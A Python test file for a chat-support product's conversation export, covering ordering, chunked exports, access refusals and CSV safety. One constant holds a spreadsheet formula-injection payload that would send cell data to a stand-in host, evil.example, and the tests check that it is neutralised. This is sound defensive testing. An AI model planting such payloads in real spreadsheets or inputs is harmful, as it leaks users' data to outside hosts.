"""Conversations as files, at the prompt and over REST: whole, by rights, and harmless to spreadsheets."""

import csv
import io
import json
import subprocess

import pytest

from harness import DESKBELLCTL, WAIT_S, Agent, Refused, Visitor, run_async
from chat_test import shop, talking  # noqa: F401  (fixtures)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"order, 3")'


def file_of(shop, *args):  # noqa: F811
    done = subprocess.run([DESKBELLCTL, "--socket", shop.socket, *args], capture_output=True,
                          timeout=WAIT_S)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode()


def table(text):
    assert text.startswith("\ufeff") and "\r\n" in text
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


async def long_talk(shop, lines):  # noqa: F811
    agent, visitor = await talking(shop, name="Mei", question=EVIL)
    for i in range(lines):
        await visitor.ask("chat.send", text=f"line {i} " + "長い" * 900)
    await agent.ask("conversation.note", conversation=visitor.chat, text="a \"note\"")
    return agent, visitor


@run_async
async def test_a_long_chat_is_whole_and_in_order_in_both_forms(shop):  # noqa: F811
    _, visitor = await long_talk(shop, 150)
    number = str(visitor.state["number"])
    text = file_of(shop, "conversation", "export", number)
    chat, = json.loads(text)
    said = [line["text"].split()[1] for line in chat["lines"] if line.get("n") and
            line["by"] == "visitor" and line.get("text", "").startswith("line ")]
    assert said == [str(i) for i in range(150)]
    assert [line["seq"] for line in chat["lines"]] == sorted(line["seq"] for line in chat["lines"])
    rows = table(file_of(shop, "conversation", "export", number, "format=csv"))
    assert [row["text"].split()[1] for row in rows if row["text"].startswith("line ")] == said
    asked, = [row["text"] for row in rows if row["kind"] == "rang"]
    assert asked == "'" + EVIL
    assert rows[0]["number"] == number and rows[0]["conversation"] == f"id:{visitor.chat}"
    assert [row["text"] for row in rows if row["kind"] == "note"] == ['a "note"']


@run_async
async def test_what_stands_in_a_table_of_what_was_done(shop):  # noqa: F811
    agent, visitor = await talking(shop, name="Mei")
    await agent.ask("conversation.tag", conversation=visitor.chat, tag="=VIP()")
    await agent.ask("conversation.tag", conversation=visitor.chat, tag="返品")
    await visitor.ask("chat.end")
    await visitor.ask("chat.feedback", rating=4)
    number = str(visitor.state["number"])
    row, = table(file_of(shop, "conversation", "export", "completed", "format=csv"))
    assert row["tags"] == "'=VIP(), 返品"
    rows = table(file_of(shop, "conversation", "export", number, "format=csv"))
    assert [r["rating"] for r in rows if r["kind"] == "feedback"] == ["4"]


async def pieces(agent, ids, **form):
    """All of the file, and what came of it in how many pieces."""
    text, after, begun, n = "", 0, False, 0
    while ids:
        ok = await agent.ask("conversation.export", conversations=ids, each_line=True, after=after,
                             begun=begun, last=True, **form)
        text, after, begun, ids, n = text + ok["text"], ok["after"], ok["begun"], ids[ok["done"]:], n + 1
    return text, n


@run_async
async def test_each_chat_has_its_lines_wherever_a_piece_ends(shop):  # noqa: F811
    shop.ctl("agent", "set", "aiko@example.com", "permissions=export")
    agent, long = await talking(shop, name="Mei", question="長い" * 480)
    small = await Visitor(shop, shop.code).open()
    await small.start(name="Jun")
    for before in range(10):
        text, n = await pieces(agent, [small.chat] * before + [long.chat] * 40)
        chats = json.loads(text)
        assert len(chats) == before + 40 and n > 1
        assert all(chat["lines"][0]["kind"] == "rang" for chat in chats)
        assert len({json.dumps(chat["lines"]) for chat in chats[before:]}) == 1


@run_async
async def test_a_chat_that_one_loses_sight_of_is_closed_where_it_ends(shop):  # noqa: F811
    _, visitor = await long_talk(shop, 150)
    shop.add_agent("Ken", "ken@example.com", "permissions=export",
                   departments=shop.first_department()["name"])
    ken = await Agent(shop, "ken@example.com").open(status="busy")
    ask = {"conversations": [visitor.chat, "12345"], "each_line": True, "last": True}
    for format in ("json", "csv"):
        first = await ken.ask("conversation.export", format=format, **ask)
        assert first["after"] > 0 and first["done"] == 0
        shop.ctl("member", "remove", "ken@example.com", shop.first_department()["name"])
        rest = await ken.ask("conversation.export", format=format, after=first["after"], begun=True,
                             **ask)
        shop.ctl("member", "set", "ken@example.com", shop.first_department()["name"])
        assert (rest["done"], rest["after"]) == (2, 0)
        if format == "json":
            chat, = json.loads(first["text"] + rest["text"])
            assert chat["cut"] is True and chat["lines"][0]["kind"] == "rang"
        else:
            assert rest["text"] == "" and table(first["text"])
    heads = await ken.ask("conversation.export", conversations=[visitor.chat], after=5, last=True)
    head, = json.loads(heads["text"])
    assert (heads["done"], head["head"]["name"]) == (1, "Mei")


@run_async
async def test_a_list_comes_page_after_page_as_one_file(make_gateway):
    shop = make_gateway(chats_per_hour=1000, chats_per_address=1000)  # noqa: F811
    shop.add_agent("Aiko", "aiko@example.com")
    shop.code = shop.first_department()["code"]
    agent = await Agent(shop, "aiko@example.com").open(status="busy")
    for i in range(60):
        visitor = await Visitor(shop, shop.code).open()
        await visitor.start(name=f"N{i}", email=f"n{i}@example.com")
        await visitor.ask("chat.end")
        await visitor.close()
    rows = table(file_of(shop, "conversation", "export", "to-answer", "format=csv"))
    assert [row["name"] for row in rows] == [f"N{i}" for i in range(60)]
    assert {row["state"] for row in rows} == {"missed"} and {row["box"] for row in rows} == {"to-answer"}
    heads = json.loads(file_of(shop, "conversation", "export", "missed"))
    assert [h["head"]["name"] for h in heads] == [f"N{i}" for i in reversed(range(60))]
    chats = json.loads(file_of(shop, "conversation", "export", "missed", "lines=yes"))
    assert all(chat["lines"][0]["kind"] == "rang" for chat in chats) and len(chats) == 60
    assert json.loads(file_of(shop, "conversation", "export", "completed")) == []
    assert table(file_of(shop, "conversation", "export", "completed", "format=csv")) == []
    assert agent is not None


@run_async
async def test_nobody_takes_away_what_he_may_not(shop):  # noqa: F811
    agent, visitor = await talking(shop)
    with pytest.raises(Refused) as refused:
        await agent.ask("conversation.export", conversation=visitor.chat)
    assert refused.value.code == "forbidden"
    with pytest.raises(Refused) as refused:
        await agent.ask("conversation.export", conversations=[visitor.chat])
    assert refused.value.code == "forbidden"
    shop.ctl("department", "add", "Other", "type=private")
    shop.add_agent("Far", "far@example.com", "permissions=export", departments="Other")
    far = await Agent(shop, "far@example.com").open(status="busy")
    with pytest.raises(Refused) as refused:
        await far.ask("conversation.export", conversation=visitor.chat)
    assert refused.value.code == "unknown"
    ok = await far.ask("conversation.export", conversations=[visitor.chat], last=True)
    assert (ok["text"], ok["rows"], ok["done"]) == ("[]\n", 0, 1)
    shop.ctl("agent", "set", "aiko@example.com", "permissions=export")
    agent = await Agent(shop, "aiko@example.com").open(status=None)
    ok = await agent.ask("conversation.export", conversations=[visitor.chat, "12345"], last=True)
    head, = json.loads(ok["text"])
    assert head["head"]["conversation"] == visitor.chat and "ip" not in head["head"]
    with pytest.raises(Refused):
        await agent.ask("conversation.export", conversation=visitor.chat, format="xls")
    with pytest.raises(Refused):
        await agent.ask("conversation.export", conversations=["1"] * 51)
